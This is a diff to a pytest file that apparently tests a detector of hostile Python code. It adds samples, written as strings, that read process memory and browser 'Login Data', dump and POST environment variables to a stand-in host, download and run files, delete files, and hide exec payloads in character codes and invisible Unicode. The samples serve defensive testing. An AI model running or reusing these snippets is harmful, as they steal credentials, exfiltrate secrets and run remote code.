@@ -102,11 +102,11 @@ def test_shell_in_all_spellings(text: str) -> None:
         ('from requests import get\nget("https://api.host.invalid")', ("network", "api.host.invalid")),
         ('import requests\ns = requests.Session()\ns.put("https://api.host.invalid")', ("network", "api.host.invalid")),
         ('import requests\nwith requests.session() as s:\n    s.get("https://api.host.invalid")', ("network", "api.host.invalid")),
-        ('from urllib.request import urlopen, Request\nurlopen(Request("https://api.host.invalid"))', ("network", "*")),
+        ('from urllib.request import urlopen, Request\nurlopen(Request("https://api.host.invalid"))', ("network", "api.host.invalid")),
         ('import urllib2\nurllib2.urlopen("https://api.host.invalid")', ("network", "api.host.invalid")),
-        ('import socket\ns = socket.socket()\ns.connect(("api.host.invalid", 80))', ("network", "*")),
+        ('import socket\ns = socket.socket()\ns.connect(("api.host.invalid", 80))', ("network", "api.host.invalid")),
         ('import httpx\nasync def f():\n    async with httpx.AsyncClient() as c:\n        await c.get("https://api.host.invalid")', ("network", "api.host.invalid")),
-        ('import http.client\nc = http.client.HTTPSConnection("api.host.invalid")', ("network", "*")),
+        ('import http.client\nc = http.client.HTTPSConnection("api.host.invalid")', ("network", "api.host.invalid")),
         ('import os\nos.environ["NPM_TOKEN"]', ("environment", "NPM_TOKEN")),
         ('from os import environ as e\ne.get("NPM_TOKEN")', ("environment", "NPM_TOKEN")),
         ('import os\nos.getenv("NPM_" + "TOKEN")', ("environment", "NPM_TOKEN")),
@@ -258,6 +258,53 @@ def test_decoded_payloads_are_told_with_their_layers() -> None:
 )
 def test_phases(text: str, phase: str) -> None:
     assert phases(text)["shell"] == phase
+
+
+@pytest.mark.parametrize(
+    ("text", "expected"),
+    [
+        ('open(f"/proc/{pid}/mem", "rb", 0)', ("credentials", "/proc/PID/mem")),
+        ("import os\nprint(str(dict(os.environ)))", ("environment-bulk", "*")),
+        ('import shutil\nshutil.copy2(home + "/Default/Login Data", "x")', ("credentials", "Login Data")),
+        (
+            "import tempfile, os, urllib.request as u\nwith tempfile.NamedTemporaryFile() as out:\n"
+            '    out.write(u.urlopen("https://h.invalid/x").read())\nos.system(out.name)',
+            ("download-and-run", "h.invalid -> os.system"),
+        ),
+        (
+            'import os, urllib.request as u\nu.urlretrieve("https://h.invalid/x", "/tmp/x")\nos.startfile("/tmp/x")',
+            ("download-and-run", "/tmp/x -> os.startfile"),
+        ),
+        (
+            'import http.client, os\nc = http.client.HTTPSConnection("h.invalid")\n'
+            'c.request("POST", "/", body=repr(os.environ))',
+            ("exfiltration", "environment -> h.invalid"),
+        ),
+        (
+            'import subprocess, sys\nsubprocess.run([sys.executable, "-c", "import os; os.remove(\'/x\')"])',
+            ("filesystem-delete", "/x"),
+        ),
+    ],
+)
+def test_what_incidents_did(text: str, expected: tuple[str, str]) -> None:
+    assert expected in told(text)
+
+
+def test_an_environment_for_a_child_is_not_taken() -> None:
+    assert ("environment-bulk", "*") not in told(
+        "import os, subprocess\nsubprocess.run(['x'], env=dict(os.environ))"
+    )
+
+
+def test_code_made_of_numbers_hides_what_it_is() -> None:
+    numbers = ", ".join(str(ord(character)) for character in "import os\nos.system('id')")
+    assert ("encoded-payload", "characters -> python") in told(f'exec("".join(map(chr, [{numbers}])))')
+    assert not [one for one in told("exec('import os; ' + 'os.system(1)')") if one[0] == "encoded-payload"]
+
+
+def test_a_text_that_nobody_sees_is_a_payload() -> None:
+    hidden = "".join(chr(0xE0100 + ord(character)) for character in "print('harmless')")
+    assert ("dynamic-code", "decoded") in told(f'exec(bytes(ord(c) - 0xE0100 for c in "{hidden}"))')
 
 
 def test_setup_py_runs_at_install() -> None:
